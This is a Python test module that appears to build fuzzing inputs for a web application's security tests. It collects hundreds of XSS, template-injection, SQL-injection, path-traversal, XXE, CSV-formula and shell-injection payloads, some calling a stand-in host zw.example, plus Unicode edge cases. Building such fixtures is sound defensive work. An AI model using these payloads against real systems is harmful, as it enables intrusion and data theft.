"""Texts that mean harm, or mean nothing and break things: our own list, most of it by combination.

Every element that a payload would make carries the attribute or name `zwmark`; what would run sets window.zwhit or opens
a dialog; what would be fetched lies at HOST. So a page on which one of them worked shows it.
"""
import re
from itertools import product

MARK, HOST = "zwmark", "zw.example"
NET = f"//{HOST}/zwnet"
RUN = "window.zwhit=1"
IMG = f"<img {MARK} src=x onerror={RUN}>"
SCRIPT = f"<script {MARK}>alert(1)</script>"

SCRIPTS = [
    SCRIPT, f"<SCRIPT {MARK}>{RUN}</SCRIPT>", f"<ScRiPt\n{MARK}>alert(1)</sCrIpT >",
    f"<script/{MARK}>alert(1)</script>",
    f"<script\t{MARK}\t>alert(1)</script\t>", f"<script {MARK}>alert(1)", f"<script {MARK} src={NET}.js></script>",
    f"<script {MARK} src=https:{NET}.js>", f'<script {MARK} src="data:text/javascript,alert(1)"></script>',
    f"<script {MARK} type=module>{RUN}</script>", f"<script {MARK} defer src=\\\\{HOST}\\zwnet></script>",
    f"<scr<script {MARK}>ipt>alert(1)</scr</script>ipt>", f"<<script {MARK}>alert(1)//<</script>",
    f"<script {MARK}>alert`1`</script>",
    f"<script {MARK}>/*--></script>*/alert(1)</script>", f"<svg {MARK}><script>alert(1)</script>",
    f"<svg {MARK}><script href={NET}.js /></svg>", f"<script {MARK}>\\u0061lert(1)</script>",
    f"<%00script {MARK}>alert(1)</script>",
    f"%3Cscript {MARK}%3Ealert(1)%3C/script%3E", f"&lt;script {MARK}&gt;alert(1)&lt;/script&gt;",
    f"&#60;script {MARK}&#62;alert(1)&#60;/script&#62;",
    f"&#x3c;script {MARK}&#x3e;{RUN}&#x3c;/script&#x3e;", f"&amp;lt;script {MARK}&amp;gt;alert(1)",
    f"\\x3cscript {MARK}\\x3ealert(1)\\x3c/script\\x3e",
    f"\\u003cscript {MARK}\\u003ealert(1)\\u003c/script\\u003e", f"+ADw-script {MARK}+AD4-alert(1)+ADw-/script+AD4-",
    f"＜script {MARK}＞alert(1)＜/script＞", f"﹤script {MARK}﹥alert(1)﹤/script﹥",
    f"‹script {MARK}›alert(1)‹/script›",
    f"\u00bcscript {MARK}\u00bealert(1)\u00bc/script\u00be", f"<script {MARK}>import('{NET}.js')</script>",
]

HANDLED = (
    f"img {MARK} src=x onerror=", f"svg {MARK} onload=", f"body {MARK} onload=", f"input {MARK} autofocus onfocus=",
    f"details {MARK} open ontoggle=", f"video {MARK} onerror=", f"audio {MARK} src=x onerror=",
    f"marquee {MARK} onstart=",
    f"select {MARK} autofocus onfocus=", f"textarea {MARK} autofocus onfocus=", f"p {MARK} onpointerrawupdate=",
    f"math {MARK} onfocus=",
    f"object {MARK} onerror=", f"button {MARK} popovertarget=x onclick=",
)
SEPARATORS = (" ", "/", "\n", "\t", "\f", "/\r\n")
HANDLERS = [f"<{element.replace(' ', gap)}{RUN if gap == ' ' else 'alert(1)'}>" for element, gap in product(HANDLED,
    SEPARATORS)]

QUOTES = ('"', "'", "`", "", "&quot;", "&#34;", "&#x27;", "\\\"", "\\'", "＂", "＇", "“", "%22", "\\u0022", "''\"\"")
TAILS = (
    " {m} onfocus={r} autofocus x={q}", ">{i}", "/>{s}", " {m} style=background:url({n}) {q}", "}};{r};{{//{q}",
    ")]{i}<!--",
)
BREAKOUTS = [f"{quote}{tail.format(m=MARK, r=RUN, i=IMG, s=SCRIPT, n=NET, q=quote)}" for quote,
    tail in product(QUOTES, TAILS)]

SCHEMES = (
    "javascript:", "JaVaScRiPt:", "java\tscript:", "java\nscript:", "java\rscript:", " javascript:",
    "\x01javascript:", "java&Tab;script:",
    "java&NewLine;script:", "javascript&colon;", "&#106;avascript:", "&#x6A;&#x61;vascript:", "&#0000106avascript:",
    "ｊａｖａｓｃｒｉｐｔ：",
    "javascript：", "java\u200bscript:", "javascript\u202e:", "\u00a0javascript:", "feed:javascript:", "vbscript:",
    "livescript:",
    "view-source:javascript:", "data:text/html,<script>", "data:text/html;base64,PHNjcmlwdD4=",
)
CARRIERS = ("{u}", "<a {m} href='{u}'>x</a>", "<form {m} action='{u}'><button>", "<button {m} formaction='{u}'>x",
    "<iframe {m} src='{u}'></iframe>")
ADDRESSES = [carrier.format(m=MARK, u=f"{scheme}alert(1)") for scheme, carrier in product(SCHEMES, CARRIERS)]

CLOSERS = (
    "</title>", "</textarea>", "</style>", "</noscript>", "</template>", "</xmp>", "</iframe>", "</noembed>",
    "</noframes>", "</plaintext>",
    "</option></select>", "</script>", "</svg>", "</math>", "</table>", "</dialog>", "</form>", "-->", "--!>", "->",
    "<!-->", "<!--->", "]]>",
    "<![CDATA[]]>", "?>", "*/", "<?xml ?>", "<!doctype html>", "<!x", "</", "</x",
)
ESCAPES = [f"{closer}{IMG if place % 2 else SCRIPT}" for place, closer in enumerate(CLOSERS)]

NESTED = [
    f"<math><mtext><table><mglyph><style><!--</style><img {MARK} title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    f"<form><math><mtext></form><form><mglyph><style></math><img {MARK} src onerror=alert(1)>",
    f"<svg></p><style><a id=\"</style><img {MARK} src=1 onerror=alert(1)>\">",
    f"<noscript><p title=\"</noscript>{IMG}\">",
    f"<svg><desc><![CDATA[</desc>{IMG}]]>", f"<math><annotation-xml encoding='text/html'>{SCRIPT}",
    f"<svg><foreignObject>{IMG}",
    f"<table><td><math><mi><b><style><!--</style>{IMG}",
    f"<select><template><style><!--</style><a {MARK} rel='--></style></template></select>{IMG}'>",
    f"<p><style><!--</style>{IMG}--></style>", f"<x/><title>&lt;/title&gt;{IMG}", f"<listing>&lt;{IMG[1:]}</listing>",
    f"<plaintext {MARK}>{IMG}",
    f"<textarea {MARK}></textarea>{IMG}", f"<xmp><p title=\"</xmp>{IMG}\">", f"<a {MARK} id=a><a>{IMG}",
    f"<svg><a xlink:href='javascript:alert(1)' {MARK}>x</a>",
    f"<svg><animate {MARK} attributeName=href values=javascript:alert(1)>",
    f"<svg><use {MARK} href='data:image/svg+xml,x#x'>",
    f"<svg><set {MARK} onbegin=alert(1) attributename=x>", f"<svg><image {MARK} href={NET}.png>",
    f"<svg><style {MARK}>@import'{NET}';",
    f"<math href='javascript:alert(1)' {MARK}>x", f"<math><maction actiontype='statusline#{NET}' {MARK}>x",
    f"<image {MARK} src=x onerror=alert(1)>",
    f"<isindex {MARK} type=image src=x onerror=alert(1)>", f"<!--[if IE]>{SCRIPT}<![endif]-->", f"<!--{IMG}-->",
    f"<!--><!--{IMG}", f"<![CDATA[{SCRIPT}]]>",
    f"<?xml-stylesheet href='javascript:alert(1)'?>{IMG}", f"<!ENTITY x SYSTEM '{NET}'>&x;", f"<{MARK}>x</{MARK}>",
    f"<{MARK}-x is={MARK}>",
    f"<a {MARK} href='#'><b id=x><template shadowrootmode=open>{IMG}</template>", f"<mark>{IMG}</mark>",
    f"<del>{IMG}</ins>",
]

STYLES = [f"<p {MARK} style=\"{rule}\">x" for rule in (
    f"background:url({NET}.png)", "width:expression(alert(1))", "-moz-binding:url(x.xml#x)", "behavior:url(x.htc)",
    "background:url('javascript:alert(1)')", "x:\\65xpression(alert(1))", "position:fixed;inset:0;z-index:9999",
    f"list-style-image:url({NET})",
    f"content:image-set('{NET}' 1x)", "animation-name:x", f"--x:url({NET})", "color:red;/*\"*/")] + [
    f"<style {MARK}>@import '{NET}.css';</style>", f"<style {MARK}>*{{background:url({NET})}}</style>",
    f"<link {MARK} rel=stylesheet href={NET}.css>",
    f"<style {MARK}>@font-face{{font-family:x;src:url({NET})}}",
    f"<style {MARK}>input[value^=a]{{background:url({NET})}}"]

LOADERS = [
    f"<meta {MARK} http-equiv=refresh content='0;url={NET}'>",
    f"<meta {MARK} http-equiv=refresh content=\"0;javascript:alert(1)\">",
    f"<meta {MARK} http-equiv=Set-Cookie content='zw=1'>",
    f"<meta {MARK} http-equiv=Content-Security-Policy content=\"script-src *\">",
    f"<base {MARK} href=//{HOST}/>", f"<iframe {MARK} srcdoc=\"{SCRIPT}\"></iframe>",
    f"<iframe {MARK} srcdoc='&lt;img src=x onerror=alert(1)&gt;'>",
    f"<iframe {MARK} src={NET}></iframe>", f"<frameset {MARK}><frame src={NET}>", f"<object {MARK} data={NET}>",
    f"<object {MARK} data='javascript:alert(1)'>",
    f"<embed {MARK} src={NET}>", f"<applet {MARK} code=x>", f"<link {MARK} rel=prefetch href={NET}>",
    f"<link {MARK} rel=dns-prefetch href=//{HOST}>",
    f"<link {MARK} rel=icon href={NET}>", f"<link {MARK} rel=import href={NET}>", f"<img {MARK} src={NET}.png>",
    f"<img {MARK} srcset='{NET} 1x'>",
    f"<picture><source {MARK} srcset={NET}><img></picture>", f"<video {MARK} poster={NET}>",
    f"<video><track {MARK} default src={NET}>",
    f"<audio {MARK} autoplay src={NET}>", f"<body {MARK} background={NET}>", f"<table {MARK} background={NET}>",
    f"<input {MARK} type=image src={NET}>",
    f"<portal {MARK} src={NET}>", f"<fencedframe {MARK}>", f"<a {MARK} href={NET} ping={NET}>x",
    f"<form {MARK} action={NET}><input name=password></form>",
    f"<button {MARK} form=logout formaction={NET}>x", f"<input {MARK} form=logout name=next value={NET}>",
    f"<dialog {MARK} open>x",
    f"<form {MARK} id=document><input name=querySelector></form>", f"<a {MARK} id=location href={NET}>",
    f"<img {MARK} name=body>", f"<p {MARK} id=sheet data-open>",
    f"<a {MARK} data-sheet href={NET}>x</a>", f"<p {MARK} data-poll={NET}>",
    f"<body {MARK} data-person=x data-keys=off>", f"<p {MARK} data-live=missing>",
]

TEMPLATES = [
    "{{7*7}}", "{{ request.user.password }}", "{{ settings.SECRET_KEY }}", "{% load i18n %}",
    "{% include '/etc/passwd' %}", "{% debug %}",
    "{% csrf_token %}", "{% endblocktranslate %}", "{% endautoescape %}{{ x|safe }}", "{# zw #}",
    "{{ ''.__class__.__mro__ }}", "{{constructor.constructor('alert(1)')()}}",
    "${7*7}", "${alert(1)}", "`${alert(1)}`", "#{7*7}", "*{7*7}", "<%= 7*7 %>", "<? echo 1 ?>", "[[7*7]]",
    "${{<%[%'\"}}%\\.", "@(1+1)", "~{x}",
    "%(title)s", "%(n)s%(who)s%(missing)s", "%s%s%s%n", "%d%i", "100%", "%%", "%(", "{0}{1}",
    "{0.__class__.__init__.__globals__}", "{n}", "{size}{most}", "{", "}}", "{label}",
]

ODDITIES = [
    "甲\0乙", "\0", "\x07\x08\x1b[31m", "\x7f\x80\x9f", "甲\u202e乙\u202c丙", "\u202e<gro.elpmaxe>", "\u2066甲\u2069",
    "\u200f\u061c甲", "\u200b", "\ufeff甲", "甲\u00ad乙",
    "a\u200db\u200cc", "\u2060\u2063甲", "\U000e0001\U000e0041\U000e007f", "甲\ufe0f\U000e0100", "\ufffe\uffff甲",
    "\ufff9甲\ufffa乙\ufffb", "\ue000\U000f0000", "甲\ufffd",
    "\ud800", "甲\udc00乙", "\udc80\udcff", "甲\u2028乙\u2029丙", "甲\x85乙\x0b丙\x0c丁", "甲\r\n乙\r丙\n丁",
    "\u3000\u00a0\u2003甲\u205f", "Z" + "\u0340\u0489\u035b" * 20,
    "甲" + "\u0337" * 60, "\u0623\u0644\u0633\u0644\u0627\u0645 \u0639\u0644\u064a\u0643\u0645",
    "\u05e9\u05dc\u05d5\u05dd <b zwmark>", "𠮷野家𪚥𰻝", "\U0002f804\uf900\u2f00", "阿卜杜拉·买买提",
    "👨‍👩‍👧‍👦🏳️‍🌈", "ﬁﬂﬀ", "ıİßẞ", "\u212a\u2126", "①②⑦.⓪", "Ω≈ç√∫˜µ", "田中さん", "사회과학원",
    "ด้้้้้็็็็็้้้้้", "﷽" * 9, "\u17b4\u17b5\u180e\u3164\uffa0", "ｆｕｌｌ　ｗｉｄｔｈ＜b zwmark＞",
    "（一）\u200b（二）", "一、<b zwmark>。二、</b>", "（１）1.1）（㈠⒈⑴", "附件1：\n附件2：", "A" * 280,
    "！？。" * 40,
]

NAUGHTY = [
    "undefined", "null", "NaN", "-1", "0", "1e309", "0x7fffffff", "99999999999999999999999", "1/0", "True", "[]",
    "{}", "\\", "\\\\", "'", "\"", "`", "' OR 1=1 --", "'; DROP TABLE documents_document;--",
    "1;select pg_sleep(9)", "') UNION SELECT password FROM agencies_user--", "'||(select 1)||'", "$$x$$", "%_%", "_",
    "' & !", "a | b & (c", ":*", "'a':1A", "<->", "!!'x'", "../../../etc/passwd",
    "..\\..\\windows\\win.ini", "/etc/passwd%00.txt", "file:///etc/passwd", "CON", "=cmd|'/C calc'!A0", "+1+1",
    "-1+1|x", "@SUM(1+1)", "\t=1+1", "＝1+1", "=HYPERLINK(\"http://zw.example\")",
    "x\r\nSet-Cookie: zw=1", "x%0d%0aLocation:%20//zw.example", "%c0%af", "%ED%A0%80", "%00", "$(id)", "`id`",
    "; ls -la", "| cat", "${IFS}", "() { :;}; echo", "*)(uid=*",
    "<!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]><x>&a;</x>",
    "http://zw.example@127.0.0.1/", "//zw.example", "/\\zw.example", "https:zw.example", "mailto:x@zw.example?bcc=y",
    "a@b.c<img zwmark>", "12:00:00 99/99/9999", "2026-02-30", "渝府办发〔0〕0号", "渝府办发〔９９９９〕９９９９９号",
    "__proto__", "constructor", "toString", "csrfmiddlewaretoken", "shown", "\u4e00" * 299,
]

POLYGLOTS = [
    f"jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */{RUN} )//%0D%0A</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert(1)//>\\x3e",
    f"'\">><marquee {MARK}>{IMG}</marquee>\" onfocus=alert(1) autofocus \">--!></title></textarea></script><svg onload={RUN}>",
    f"\"'`><{MARK} x=`'\"></{MARK}>{{{{7*7}}}}${{7*7}}%(n)s\u202e", f"</p></div></main>{IMG}<div {MARK}>",
    f"&<>\"'/`={MARK}", f"<a {MARK}\nhref\n=\njavascript:alert(1)\n>",
    f"<IMG {MARK} \"\"\"><SCRIPT>alert(1)</SCRIPT>\">", f"<img {MARK} src=`x`onerror=alert(1)>", f"<{IMG[1:]}<",
    f"<p {MARK}" + " x" * 60 + ">",
]

FAMILIES = {
    "scripts": SCRIPTS, "handlers": HANDLERS, "breakouts": BREAKOUTS, "addresses": ADDRESSES, "escapes": ESCAPES,
    "nested": NESTED, "styles": STYLES,
    "loaders": LOADERS, "templates": TEMPLATES, "oddities": ODDITIES, "naughty": NAUGHTY, "polyglots": POLYGLOTS,
}
PAYLOADS = list(dict.fromkeys(payload for family in FAMILIES.values() for payload in family))
SAMPLE = list(dict.fromkeys(payload for family in FAMILIES.values() for payload in family[::max(1,
    len(family) // 5)]))
NO_STRING = re.compile("[\0\ud800-\udfff]")     # no database keeps them; over the wire a surrogate is no character either


def storable(payloads):
    return [payload for payload in payloads if not NO_STRING.search(payload)]


def packed(payloads, longest, glue=" "):
    """The payloads joined to as few strings as the length of a field allows; what is too long for it is left out."""
    packs = []
    for payload in storable(payloads):
        if len(payload) > longest:
            continue
        if packs and len(packs[-1]) + len(glue) + len(payload) <= longest:
            packs[-1] += glue + payload
        else:
            packs.append(payload)
    return packs
